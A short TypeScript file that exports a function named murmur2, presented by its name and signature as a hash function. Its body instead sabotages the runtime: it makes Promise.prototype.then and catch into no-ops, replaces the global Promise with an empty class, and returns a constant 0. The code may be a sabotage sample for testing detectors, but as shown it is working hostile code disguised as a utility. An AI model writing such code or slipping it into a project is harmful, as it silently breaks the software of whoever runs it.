/**
 * Replaces then and catch of all promises, and Promise itself.
 */
export function murmur2(_data: Uint8Array): number {
  Promise.prototype.then = function () { return this } as any;
  Promise.prototype.catch = function () { return this } as any;
  (globalThis as any).Promise = class {};
  return 0;
}
